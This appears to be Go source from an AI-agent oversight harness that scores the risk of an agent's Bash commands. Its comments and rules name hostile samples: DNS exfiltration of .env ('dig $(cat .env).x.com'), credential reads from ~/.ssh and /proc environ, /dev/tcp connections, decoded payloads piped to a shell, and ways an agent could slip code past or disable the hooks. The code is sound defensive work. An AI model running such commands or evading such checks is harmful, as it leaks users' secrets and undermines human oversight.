package classify

import (
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"

	"github.com/oath-harness/oath-harness/internal/classify/shell"
	"github.com/oath-harness/oath-harness/internal/claude"
	"github.com/oath-harness/oath-harness/internal/command"
	"github.com/oath-harness/oath-harness/internal/domain"
	"github.com/oath-harness/oath-harness/internal/risk"
	"github.com/oath-harness/oath-harness/internal/safefile"
)

func (c *Env) bashTool(r *result, ev *claude.Event, cwd string) {
	var in struct {
		Command *string `json:"command"`
	}
	if !decode(ev.ToolInput, &in) || in.Command == nil {
		// Fail closed: a command we cannot read is one we cannot judge, and at high trust
		// anything short of critical would be auto-approved.
		r.add(risk.Critical, ShellExec, ruleUnreadableInput, "Bash", "tool_input.command is missing or not a string: it cannot be judged")
		return
	}
	if strings.TrimSpace(*in.Command) == "" {
		r.add(risk.Low, ShellExec, ruleEmptyCommand, "", "nothing to run")
		return
	}
	c.program(r, *in.Command, cwd)
	r.outboundProgram(*in.Command)
	c.harnessEnvWrite(r, func() string { return *in.Command }, r.writes, ShellExec)
	// A credential read is file_read on its own; next to a command that writes, runs or
	// sends (dig $(cat .env).x.com), it must not carry that command at file_read's trust.
	other := false
	for _, p := range r.parts {
		if p.risk.Value() >= risk.Medium.Value() && p.domain.Rank() > FileRead.Rank() {
			other = true
		}
	}
	for i := range r.parts {
		if other && r.parts[i].reason.Rule == ruleCredentialRead && r.parts[i].domain == FileRead {
			r.parts[i].domain = ShellExec
		}
	}
	if len(r.parts) == 0 {
		r.add(risk.Low, ShellExec, ruleNoCommand, "", "the program runs no command (comments or assignments only)")
	}
}

// program classifies a shell program: the Bash tool's command, or a string a user extract
// filter took out of another tool's input.
func (c *Env) program(r *result, src, cwd string) {
	c.analyzed(r, src, shell.Options{Cwd: cwd, Home: c.home})
}

// analyzed analyses src as opt says and judges it into r; it returns what the analysis saw
// (a pipelined program's commands aside: they were judged as they came).
func (c *Env) analyzed(r *result, src string, opt shell.Options) *shell.Program {
	cwd := opt.Cwd
	if !allNames.Load() {
		opt.Names = namesRead
	}
	if !pipelined(src) {
		var prog *shell.Program
		if p := r.budget().ahead; p != nil && p.matches(opt) {
			prog = p.take(src, cwd)
		}
		if prog == nil {
			prog = shell.Analyze(src, opt)
		}
		c.judgeProgram(r, prog, cwd)
		return prog
	}
	// A large program (a script or makefile a write plants, one a runner runs) is parsed and
	// walked on one core while its commands are judged on the other, as they come. The
	// commands are judged into a result of their own, appended after the program's findings,
	// variables and redirections as judgeProgram orders them: the same verdicts, in the same
	// order.
	batches := make(chan []shell.Cmd, 64)
	done := make(chan *shell.Program, 1)
	whole := opt
	opt.Batches = batches
	go func() { done <- shell.Analyze(src, opt) }()
	cmds := r.sibling()
	var judged [][]shell.Cmd // the batches, as judgeCmd left them (it sets a git command's Dir)
	// The batches waiting are taken at once, for the programs their commands carry to be
	// analysed ahead (prefetch.go) while the first is judged.
	var ahead *prefetcher
	if b := r.budget(); b.ahead == nil {
		ahead = newPrefetcher(shell.Options{Home: c.home, Names: opt.Names})
		b.ahead = ahead
		defer func() { ahead.stop(); b.ahead = nil }()
	}
	var waiting [][]shell.Cmd
	open := true
	receive := func(batch []shell.Cmd, ok bool) {
		switch {
		case !ok:
			open = false
		case batch == nil: // the analysis starts again: so does the judgement
			waiting, cmds, judged = nil, r.sibling(), nil
		default:
			waiting = append(waiting, batch)
			if ahead != nil {
				ahead.offer(batch, c.layout.ProjectDir)
			}
		}
	}
	for open || len(waiting) > 0 {
		if len(waiting) == 0 {
			batch, ok := <-batches
			receive(batch, ok)
			continue
		}
	more:
		for open {
			select {
			case batch, ok := <-batches:
				receive(batch, ok)
			default:
				break more
			}
		}
		if len(waiting) == 0 {
			continue
		}
		batch := waiting[0]
		waiting = waiting[1:]
		for i := range batch {
			c.judgeCmd(cmds, &batch[i])
		}
		judged = append(judged, batch)
	}
	prog := <-done
	if setsCommandState(prog) {
		// A proxy or GIT_DIR spelled so that the text did not show it (HTTPS_PROX""Y=…): the
		// program is analysed again, whole, and its commands judged after what the
		// variables say.
		prog = shell.Analyze(src, whole)
		c.judgeProgram(r, prog, cwd)
		return prog
	}
	c.judgeStructure(r, prog, cwd)
	r.merge(cmds)
	if decodes(judged) { // decodeProgram reads the commands' names and text only
		prog.Cmds = slices.Concat(judged...)
		c.decodeProgram(r, prog)
	}
	return prog
}

// decodes reports a decoder among the commands (decodeProgram has nothing to find without).
func decodes(batches [][]shell.Cmd) bool {
	for _, b := range batches {
		for i := range b {
			if decoderOf(&b[i]) != "" {
				return true
			}
		}
	}
	return false
}

// namesRead says which of a program's variables the judgement reads (judgeStructure,
// envCode, setsCommandState): a name like a secret's, read or set; a proxy, GIT_DIR,
// GIT_WORK_TREE, GIT_CONFIG_KEY_n or a variable that carries code (envTable), set. The shell
// analysis lists only those (shell.Options.Names); FuzzClassify checks that every answer stays
// the same as with all of them.
func namesRead(name string, assign bool) bool {
	if secretName(name) {
		return true
	}
	return assign && (proxyVariable(name) || name == "GIT_DIR" || name == "GIT_WORK_TREE" ||
		strings.HasPrefix(name, "GIT_CONFIG_KEY_") || envRowFor(name) != nil || containerVariable(name) || claudeSwitchVar(name))
}

// allNames lists every variable of a program, for the test that namesRead misses none.
var allNames atomic.Bool

// setsCommandState reports a program assigning a variable that judgeStructure reads before
// any command is judged: a proxy (result.proxy), GIT_DIR or GIT_WORK_TREE (gitElsewhere), a
// container engine or compose project (containerEnv).
func setsCommandState(prog *shell.Program) bool {
	for _, n := range prog.Names {
		if n.Assign && (proxyVariable(n.Name) || n.Name == "GIT_DIR" || n.Name == "GIT_WORK_TREE" || containerVariable(n.Name)) {
			return true
		}
	}
	return false
}

// proxyVariable reports a variable that sends network requests through another machine, or
// may (its name cannot be known statically: export $(echo X)=…).
func proxyVariable(name string) bool {
	if strings.Contains(name, shell.Dyn) {
		return true
	}
	switch strings.ToLower(name) {
	case "http_proxy", "https_proxy", "all_proxy", "ftp_proxy", "socks_proxy":
		return true
	}
	return false
}

// pipelineMin is the size from which a program is pipelined (a variable for the tests).
var pipelineMin = 16 << 10

// pipelined says whether program judges src's commands while it is still being walked: only
// a large program gains, and only one whose text does not name a variable that its commands'
// verdicts depend on (a proxy, GIT_DIR, GIT_WORK_TREE: setsCommandState checks what the walk
// found, however spelled).
func pipelined(src string) bool {
	if len(src) < pipelineMin {
		return false
	}
	return !containsFold(src, "proxy") && !strings.Contains(src, "GIT_DIR") && !strings.Contains(src, "GIT_WORK_TREE") &&
		!containsFold(src, "claude") // a nested claude reads the variables the whole call sets (nested_claude.go)
}

// containsFold reports whether s contains the lower-case ASCII word sub in any case. It
// looks for sub's first letter in either case with IndexByte, which scans many bytes at a
// time: s can be a 100 kB script.
func containsFold(s, sub string) bool {
	if sub == "" {
		return true
	}
	next := func(from int, b byte) int { // the next b at or after from, or len(s)
		if i := strings.IndexByte(s[from:], b); i >= 0 {
			return from + i
		}
		return len(s)
	}
	lo, up := sub[0], sub[0]&^0x20
	i, j := next(0, lo), next(0, up)
	for {
		at := min(i, j)
		if at+len(sub) > len(s) {
			return false
		}
		if strings.EqualFold(s[at:at+len(sub)], sub) {
			return true
		}
		if at == i {
			i = next(at+1, lo)
		}
		if at == j {
			j = next(at+1, up)
		}
	}
}

// judgeProgram judges what the shell analysis saw of a program that runs in cwd.
func (c *Env) judgeProgram(r *result, prog *shell.Program, cwd string) {
	c.judgeStructure(r, prog, cwd)
	for i := range prog.Cmds {
		c.judgeCmd(r, &prog.Cmds[i])
	}
	c.decodeProgram(r, prog)
}

// judgeCmd judges one simple command of a program, and records it as a part.
func (c *Env) judgeCmd(r *result, cmd *shell.Cmd) {
	if r.verdictOnly {
		c.command(r, cmd)
		return
	}
	argv := make([]string, len(cmd.Args))
	for j, a := range cmd.Args {
		argv[j] = a.Value
	}
	r.cmds = append(r.cmds, argv)
	from, wrote := len(r.parts), len(r.writes)
	c.command(r, cmd)
	r.part(cmd, argv, from, wrote)
}

// judgeStructure judges what a program is besides its commands: the analysis's findings,
// functions, variables and redirections.
func (c *Env) judgeStructure(r *result, prog *shell.Program, cwd string) {
	for _, f := range prog.Findings {
		r.add(f.Risk, ShellExec, f.Rule, f.Src, f.Detail)
	}
	if prog.Unread != "" && !r.fragment {
		r.notRead("the shell parser cannot read the program past an error (" + prog.Unread + "), and bash may run what follows")
	}
	for _, fn := range prog.Funcs {
		if fn.Forks {
			r.add(risk.Critical, ShellExec, ruleForkBomb, fn.Src, "the function "+fn.Name+" starts copies of itself")
		}
	}
	for _, n := range prog.Names {
		r.noteClaudeEnv(n) // nested_claude.go
		if n.Assign && proxyVariable(n.Name) {
			r.proxy = true
			r.add(risk.High, ShellExec, ruleProxyVariable, n.Src, "sets "+strings.ReplaceAll(n.Name, shell.Dyn, "$(…)")+": network requests go through another machine")
		}
		if n.Name == shell.Dyn && !n.Assign { // ${!v}, v unknown (a loop over compgen -e)
			r.add(risk.High, ShellExec, ruleEnvironmentDump, n.Src, "reads a variable whose name cannot be known statically: it may be any of the environment's secrets")
			continue
		}
		if secretName(n.Name) {
			verb := "reads"
			if n.Assign {
				verb = "sets"
			}
			r.add(risk.Critical, ShellExec, ruleSecretVariable, n.Src, verb+" the variable "+n.Name+", named like a secret (API_KEY, SECRET, TOKEN, PASSWORD)")
		}
	}
	c.envCode(r, prog.Names, cwd) // runenv.go: variables that carry code
	// for f in ~/.ssh/*; do cat "$f"; done: a loop over credentials hands them to its commands.
	for _, l := range prog.Loops {
		if l.Known && (strings.Contains(l.Value, "/") || strings.HasPrefix(l.Value, ".")) {
			why := credential(l.Value)
			if why == "" && l.Glob {
				why = credentialGlob(l.Value)
			}
			if why != "" {
				r.add(risk.High, FileRead, ruleCredentialRead, l.Value, why+", which a loop goes over")
				break
			}
		}
	}
	for _, rd := range prog.Redirs {
		ts := resolve(rd.Target, rd.Dir, false)
		for _, t := range ts {
			if t.known && devNet(t.path) != "" {
				// bash opens a connection for /dev/tcp|udp/HOST/PORT, reading as much as
				// writing: data comes in from, or goes out to, another machine.
				if h := devNet(t.path); !localHost(h) {
					r.add(risk.Critical, ShellExec, ruleNetworkExternal, rd.Src, "a redirection to "+t.path+" opens a connection to "+h+": external communication, blocked at any trust")
				} else {
					r.add(risk.Medium, ShellExec, ruleNetworkLocal, rd.Src, "a redirection to "+t.path+" opens a local connection")
				}
				continue
			}
			if rd.Write {
				if t.known && harmlessDevice(t.path) {
					continue
				}
				if t.known {
					r.writes = append(r.writes, t.path)
					if rd.Text != nil { // planted.go: cat > Makefile <<'EOF' … plants code too
						c.plantedText(r, nil, "the shell's "+rd.Op, rd.Text.Value, rd.Op == ">>" || rd.Op == "&>>", t.path, ShellExec)
					} else if len(rd.From) > 0 && plantRowFor(t.path) != nil { // cat FILE >> .git/config
						var from []target
						for _, f := range rd.From {
							from = append(from, resolve(f, rd.Dir, false)...)
						}
						c.plantCopy(r, "cat with the shell's "+rd.Op, from, t.path, rd.Op == ">>" || rd.Op == "&>>")
					} else if quietPlant(t.path) { // base64 -d <<< … > .git/hooks/pre-commit
						r.notRead("the shell's " + rd.Op + " puts into " + t.path + ", which runs later, what " + shortCmd(rd.Src) + " writes, which cannot be read now")
					}
				}
				c.judgeWrite(r, t, ShellExec, rd.Src)
				if t.known && !strings.HasPrefix(rd.Op, ">>") && !strings.HasPrefix(rd.Op, "&>>") {
					r.addLoss(loss{path: t.path, glob: t.glob, how: "overwrites", cmd: rd.Src})
				}
				r.add(risk.Medium, ShellExec, ruleRedirectWrite, rd.Src, "redirects output into a file ("+rd.Op+")")
				continue
			}
			if t.known {
				r.reads = append(r.reads, t.path)
				if why := credential(t.path); why != "" {
					r.add(risk.High, ShellExec, ruleCredentialRead, rd.Src, why)
				}
				if procEnviron(t.path) {
					r.add(risk.High, ShellExec, ruleEnvironmentDump, rd.Src, "reads "+t.path+": the environment of a process, secrets included")
				}
			}
		}
	}
}

// resolve turns a word into targets: one per directory the command may run in. A relative
// path after a cd that cannot be known is unknown.
func resolve(w shell.Word, d shell.Dir, tree bool) []target {
	if !w.Known || w.Value == "" {
		return []target{{raw: w.Value, tree: tree}}
	}
	v := w.Value
	if strings.HasPrefix(v, "/") {
		return []target{{path: shell.Abs("/", v), known: true, glob: w.Glob, tree: tree, raw: v}}
	}
	if d.Unknown {
		return []target{{raw: v + " (after a cd that cannot be known)", tree: tree}}
	}
	out := make([]target, 0, len(d.Paths))
	for _, dir := range d.Paths {
		out = append(out, target{path: shell.Abs(dir, v), known: true, glob: w.Glob, tree: tree, raw: v})
	}
	return out
}

// secretName: the seed's API_KEY, SECRET, TOKEN, PASSWORD, and their usual spellings.
//
// It is asked of every variable a program names (namesRead), thousands in a large script, so
// an ASCII name is read once, trying the words that start with the letter at hand.
func secretName(n string) bool {
	if !ascii(n) { // upper case can make ASCII of other letters (ſ is S)
		n = strings.ToLower(strings.ToUpper(n))
		for _, s := range secretWords {
			if containsFold(n, s) {
				return true
			}
		}
		return false
	}
	for i := 0; i+secretShortest <= len(n); i++ {
		if c := lowerASCII(n[i]); secretFirst[c] {
			for _, s := range secretWords {
				if s[0] == c && prefixFolded(n[i:], s) {
					return true
				}
			}
		}
	}
	return false
}

// secretFirst marks the first letters of secretWords; secretShortest is the shortest's length.
var secretFirst, secretShortest = func() (first [256]bool, shortest int) {
	shortest = len(secretWords[0])
	for _, s := range secretWords {
		first[s[0]] = true
		shortest = min(shortest, len(s))
	}
	return first, shortest
}()

// lowerASCII is c in lower case when it is an ASCII capital.
func lowerASCII(c byte) byte {
	if 'A' <= c && c <= 'Z' {
		return c + 'a' - 'A'
	}
	return c
}

// secretWords are what secretName looks for, in any case (lower case here: containsFold).
var secretWords = []string{"api_key", "apikey", "secret", "token", "password", "passwd", "private_key", "access_key", "credential"}

// cmdCtx is one command under judgement.
type cmdCtx struct {
	c    *Env
	r    *result
	cmd  *shell.Cmd
	name string
	args []shell.Word // after the program name
	src  string
	// row is name's row once looked up (prog, rowOK): who changes name clears rowOK.
	row   command.Row
	rowOK bool
}

// prog is the row of the command's program. A command's judgement asks it a handful of times
// (harness tool, shell, rules, runners, outbound …), and a large script has thousands.
func (x *cmdCtx) prog() *command.Row {
	if !x.rowOK {
		x.row, x.rowOK = program(x.name), true
	}
	return &x.row
}

// dir is where the command runs, for code it is given: its first possible directory, or the
// project's.
func (x *cmdCtx) dir() string { return cmdDir(x.cmd, x.c.layout.ProjectDir) }

// cmdDir is where cmd runs, for code it is given: its first possible directory, or project.
func cmdDir(cmd *shell.Cmd, project string) string {
	if len(cmd.Dir.Paths) > 0 {
		return cmd.Dir.Paths[0]
	}
	return project
}

func (x *cmdCtx) add(lvl risk.Level, domain domain.Domain, rule, detail string) {
	x.r.add(lvl, domain, rule, x.src, detail)
}

// write records and judges the targets of a file-changing command.
func (x *cmdCtx) write(w shell.Word, tree bool, domain domain.Domain) {
	if x.cmd.StdinArgs && w.Known {
		w = shell.Word{Value: w.Value + " (and names read from stdin)"}
	}
	for _, t := range resolve(w, x.cmd.Dir, tree) {
		x.writeTarget(t, domain)
	}
}

// writeTarget records one resolved target as written (for the part being judged too,
// parts.go) and judges it.
func (x *cmdCtx) writeTarget(t target, domain domain.Domain) {
	if t.known {
		x.r.written(t)
	}
	x.c.judgeWrite(x.r, t, domain, x.src)
}

func (x *cmdCtx) read(w shell.Word) {
	for _, t := range resolve(w, x.cmd.Dir, false) {
		if t.known {
			x.r.reads = append(x.r.reads, t.path)
			if !t.glob && credential(w.Value) == "" { // cd ~/.aws && cat credentials: the path it lands on
				if why := credential(t.path); why != "" {
					x.add(risk.High, FileRead, ruleCredentialRead, why+", read as "+w.Value)
				}
			}
			if t.glob { // cat .e*: a glob that may match a credential reads it (protect.go)
				if why := credentialGlob(t.path); why != "" {
					x.add(risk.High, FileRead, ruleCredentialRead, why+", matched by "+w.Value)
				}
			}
		}
	}
}

// procEnviron reports /proc/PID/environ (any PID, self, a glob): a process's environment.
func procEnviron(p string) bool {
	return strings.HasPrefix(p, "/proc/") && strings.HasSuffix(p, "/environ")
}

// envMarkers are how inline code reads one environment variable by name.
var envMarkers = []string{"ENVIRON[", "$ENV{", "os.environ[", "os.environ.get(", "os.getenv(", "getenv(", "process.env.", "process.env[", "ENV[", "ENV.fetch(", "Deno.env.get("}

// envInCode judges inline code reading the environment (awk 'BEGIN{print ENVIRON["API_KEY"]}'):
// a secret-named variable read by name is `echo $API_KEY`; awk's for (k in ENVIRON) and
// perl's %ENV walk every variable, like env.
func (x *cmdCtx) envInCode(w shell.Word) {
	code := w.Value
	if !strings.Contains(code, "ENV") && !strings.Contains(code, "env") {
		return
	}
	for _, m := range envMarkers {
		for rest, n := code, 0; n < 64; n++ {
			i := strings.Index(rest, m)
			if i < 0 {
				break
			}
			rest = rest[i+len(m):]
			name := strings.TrimLeft(rest, "\"' ")
			end := strings.IndexFunc(name, func(r rune) bool {
				return !(r == '_' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9')
			})
			if end >= 0 {
				name = name[:end]
			}
			if name != "" && secretName(name) {
				x.add(risk.Critical, ShellExec, ruleSecretVariable, x.name+" reads the variable "+name+", named like a secret (API_KEY, SECRET, TOKEN, PASSWORD)")
				return
			}
		}
	}
	if strings.Contains(code, "in ENVIRON") || strings.Contains(code, "%ENV") {
		x.add(risk.High, ShellExec, ruleEnvironmentDump, x.name+" walks every environment variable, secrets included")
	}
}

// readNamesFrom judges a reader given its files by xargs (find ~/.ssh | xargs cat): a path
// named in the statement feeding xargs that is, may match or holds a credential is read.
func (x *cmdCtx) readNamesFrom() {
	if !x.cmd.StdinArgs || x.cmd.ArgsFrom == "" {
		return
	}
	for i, f := range strings.Fields(x.cmd.ArgsFrom) {
		if i >= 64 {
			break
		}
		f = strings.Trim(f, "'\"")
		if f != "~" && !strings.Contains(f, "/") && !strings.HasPrefix(f, ".") || strings.Contains(f, "://") {
			continue
		}
		w := shell.Word{Value: expandHome(f, x.c.home), Known: true, Glob: strings.ContainsAny(f, "*?[")}
		for _, t := range resolve(w, x.cmd.Dir, false) {
			why := credential(t.path)
			if why == "" && t.glob {
				why = credentialGlob(t.path)
			}
			if why == "" && !t.glob {
				why = credentialTree(t.path, x.c.home)
			}
			if why != "" {
				x.add(risk.High, FileRead, ruleCredentialRead, why+", whose names xargs hands to "+x.name)
				return
			}
		}
	}
}

// readTree judges a read of everything under w (grep -r, cp -r): a credential directory, or
// one holding the home directory's credentials, is a read of credentials (protect.go).
func (x *cmdCtx) readTree(w shell.Word) {
	for _, t := range resolve(w, x.cmd.Dir, false) {
		if t.known {
			if why := credentialTree(t.path, x.c.home); why != "" {
				x.add(risk.High, FileRead, ruleCredentialRead, why)
				return
			}
		}
	}
}

// destroy judges a recursive destructive operation (rm -r, chmod -R …) on w.
func (x *cmdCtx) destroy(w shell.Word, what string) {
	for _, t := range resolve(w, x.cmd.Dir, true) {
		if why := x.c.prot.catastrophic(t); why != "" {
			x.add(risk.Critical, ShellExec, ruleCatastrophe, what+" of "+why+": irreversible and broad")
			continue
		}
		// build/home/ where build/home -> ~: the operation reaches what the link points at.
		if t.known && !t.glob {
			if real := reachedPath(x.r.resolver(), t.path, strings.HasSuffix(w.Value, "/")); real != t.path {
				rt := t
				rt.path = real
				if why := x.c.prot.catastrophic(rt); why != "" {
					x.add(risk.Critical, ShellExec, ruleCatastrophe, what+" of "+t.path+", which is "+why+" through a symbolic link: irreversible and broad")
				}
			}
		}
	}
}

// reachedPath is where an operation on p lands once the links on the way are followed: the
// directories above p always; p itself only when it was written with a trailing slash (rm -r
// link removes the link, rm -r link/ what it points to).
func reachedPath(links *safefile.Links, p string, whole bool) string {
	if whole {
		return links.Resolve(p)
	}
	dir := safefile.Parent(p)
	real := links.Resolve(dir)
	if real == dir {
		return p // most often: no link on the way
	}
	return filepath.Join(real, filepath.Base(p))
}

// command judges one simple command.
func (c *Env) command(r *result, cmd *shell.Cmd) {
	x := &cmdCtx{c: c, r: r, cmd: cmd, name: cmd.Name(), args: cmd.Args[1:], src: cmd.Src}
	for _, v := range cmd.Via {
		if shell.IsPrivileged(strings.Fields(v)[0]) {
			x.add(risk.High, ShellExec, rulePrivileged, "runs as another user ("+v+")")
		}
	}
	if x.name == "" {
		x.add(risk.Critical, ShellExec, ruleDynamicCommand, "the command name cannot be known statically: it could be any program")
		return
	}
	x.decodedName()
	if x.selfInvocation() || x.runsHarnessCode() || x.nestedClaude() {
		return
	}
	x.personCommand()
	if w := viaLater(cmd.Via); w != "" {
		x.add(risk.Critical, ShellExec, ruleScheduledCode, w+" runs "+x.name+" as a unit of its own, outside the hooks: what it runs later is never judged")
	}
	if cmd.Carrier {
		x.add(risk.Low, FileRead, ruleCarrier, x.name+" runs a second program, judged on its own commands")
		return
	}
	if cmd.StdinArgs && len(cmd.Args) == 1 && x.name == "echo" {
		x.add(risk.Low, FileRead, ruleAllowList, "xargs with no command prints its input")
		return
	}
	// Arguments of any command: credentials and payment URLs are judged wherever they appear,
	// but for the name a copy writes (cp .env.example .env.local reads no secret).
	dest, copies := x.copyDest()
	for _, a := range x.args {
		if !a.Known {
			// ~user/.ssh/id_rsa, "$D/.aws/credentials": the known tail still names a credential.
			if i := strings.LastIndex(a.Value, shell.Dyn); i >= 0 && strings.HasPrefix(a.Value[i+len(shell.Dyn):], "/") {
				if why := credential(a.Value[i+len(shell.Dyn):]); why != "" {
					x.add(risk.High, FileRead, ruleCredentialRead, why+" ("+a.Value[i+len(shell.Dyn):]+" under a directory that cannot be known statically)")
				}
			}
			continue
		}
		if copies && a.Value == dest {
			continue
		}
		v := a.Value
		if i := strings.IndexByte(v, '='); i > 0 && strings.HasPrefix(v, "-") {
			v = v[i+1:]
		}
		if strings.Contains(v, "/") || strings.HasPrefix(v, ".") || strings.HasPrefix(v, "id_") {
			if why := credential(v); why != "" && !strings.Contains(v, "://") {
				x.add(risk.High, FileRead, ruleCredentialRead, why)
			}
			if procEnviron(v) {
				x.add(risk.High, ShellExec, ruleEnvironmentDump, x.name+" is given "+v+": the environment of a process, secrets included")
			}
		}
		if strings.Contains(v, "://") {
			if why := tradeURL(v); why != "" {
				x.add(risk.Critical, ShellExec, ruleTradeURL, why)
			}
		}
	}
	x.recursiveSearch() // credsearch.go: what grep -r, rg, ag would print
	x.encodedCommand()
	x.outbound()
	if cmd.Stdin {
		switch cmd.Input {
		case "pipe":
			// An unknown program (base64 -d | sh): as dangerous as an unknown command name.
			x.add(risk.Critical, ShellExec, ruleProgramFromStdin, x.name+" runs a program piped into it, which cannot be known statically")
		case "file":
			x.add(risk.Medium, ShellExec, ruleScript, x.name+" runs a script file")
			x.stdinScript()
		case "catfile":
			x.add(risk.High, ShellExec, ruleProgramFromStdin, x.name+" runs a script file piped into it (issue 2: a pipe into a shell is at least high)")
			x.stdinScript()
		default:
			// { bash; } < FILE, exec < FILE; sh, a loop's redirection: the program is there,
			// but where is not followed here.
			x.add(risk.High, ShellExec, ruleProgramFromStdin, x.name+" reads its program from stdin: it cannot be analysed")
			x.r.notRead(shortCmd(x.src) + ": " + x.name + " reads its program from stdin, which the harness does not see")
		}
		return
	}
	if cmd.Code != nil {
		x.envInCode(*cmd.Code)
		x.decodedCode(*cmd.Code)
		x.code(*cmd.Code)
		return
	}
	from := len(r.parts)
	x.judge()
	x.pathFloor(from)
	x.runnerCode() // runners.go: what it runs from files
}

// harnessEnvWrite: text that sets a variable the hooks trust (OATH_BIN …) written into a file
// a shell or direnv loads is critical, whatever the file (the well-known ones are protected
// outright; this catches ~/.config/fish/functions/x.fish, a project's .envrc, /etc/*rc …).
// text is made only for a startup file: a Write's can be a 100 kB script, and few files are.
func (c *Env) harnessEnvWrite(r *result, text func() string, writes []string, domain domain.Domain) {
	for _, w := range writes {
		if startupFile(w) {
			if !setsHarnessEnv(text()) {
				return
			}
			r.add(risk.Critical, domain, ruleSelfProtection, w, "writes "+w+", which a shell or direnv loads, with a setting of OATH_BIN, OATH_HOME, OATH_HOOKS_DIR or CLAUDE_PROJECT_DIR: the hooks trust those to find the harness")
			return
		}
	}
}

// devNet returns the host of bash's /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT, or "".
func devNet(p string) string {
	for _, pre := range []string{"/dev/tcp/", "/dev/udp/"} {
		if rest, ok := strings.CutPrefix(p, pre); ok {
			h, _, _ := strings.Cut(rest, "/")
			if h == "" {
				return "(no host)"
			}
			return h
		}
	}
	return ""
}
